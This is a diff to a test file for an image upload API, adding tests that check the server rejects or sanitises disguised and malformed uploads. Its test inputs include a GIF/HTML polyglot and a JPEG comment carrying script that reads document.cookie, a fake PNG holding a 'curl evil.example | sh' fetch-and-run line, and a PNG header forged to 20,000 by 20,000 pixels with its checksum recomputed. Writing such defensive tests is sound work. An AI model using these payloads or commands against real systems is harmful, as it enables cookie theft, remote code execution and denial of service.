@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import test, { after } from 'node:test';
+import { crc32 } from 'node:zlib';
 import type { ErrorBody, User } from '@waymark/api-contract';
 import sharp from 'sharp';
 import { startTestApi, type TestMember } from '../../testing/api.ts';
@@ -88,6 +89,9 @@ test('what is no picture of a known type is refused as invalid-image-type', asyn
     [plain(webp), 'image/png'],
     [plain(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')), 'image/png'],
     [plain(Buffer.from('GIF89a not really')), 'image/gif'],
+    [plain(Buffer.from('GIF89a/*<html>*/=1;</html><script>alert(document.cookie)</script>')), 'image/gif'],
+    [plain(Buffer.from('<!doctype html><script>alert(1)</script>')), 'image/jpeg'],
+    [plain(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')), 'image/png'],
     [new Uint8Array(), 'image/jpeg'],
   ];
   for (const [bytes, type] of cases) {
@@ -102,6 +106,39 @@ test('a small file with a huge picture inside is refused', async () => {
     .toBuffer();
   assert.ok(bomb.length < 1_000_000);
   assert.equal((await upload(plain(bomb), 'image/png')).body.error, 'invalid-image-type');
+});
+
+test('a script inside a picture is not served with it', async () => {
+  const script = Buffer.from('<script>alert(document.cookie)</script>');
+  const jpeg = await noise(40).jpeg().toBuffer();
+  // A comment right behind the start of the picture.
+  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, script.length + 2]), script]);
+  const answer = await upload(
+    plain(Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)])),
+    'image/jpeg',
+  );
+  assert.equal(answer.status, 200, answer.text);
+  for (const { href } of answer.body._links['image']!) {
+    const served = await fetch(api.url + href);
+    assert.equal(served.headers.get('content-type'), 'image/webp');
+    assert.match(served.headers.get('content-security-policy') ?? '', /default-src 'none'/);
+    assert.ok(!Buffer.from(await served.arrayBuffer()).includes('script'));
+  }
+});
+
+test('a picture 20,000 pixels wide is cut to squares; one that is as high too is refused before it is decoded', async () => {
+  const wide = await sharp({ create: { width: 20_000, height: 60, channels: 3, background: '#283' } })
+    .png()
+    .toBuffer();
+  const answer = await upload(plain(wide), 'image/png');
+  assert.equal(answer.status, 200, answer.text);
+  const large = await fetch(api.url + answer.body._links['image']![2]!.href);
+  assert.equal((await sharp(Buffer.from(await large.arrayBuffer())).metadata()).width, 640);
+  // Its header says 20,000 by 20,000; the checksum of the header is right again.
+  const huge = Buffer.from(wide);
+  huge.writeUInt32BE(20_000, 20);
+  huge.writeUInt32BE(crc32(huge.subarray(12, 29)), 29);
+  assert.deepEqual((await upload(plain(huge), 'image/png')).body.error, 'invalid-image-type');
 });
 
 test('an upload without the field says so', async () => {
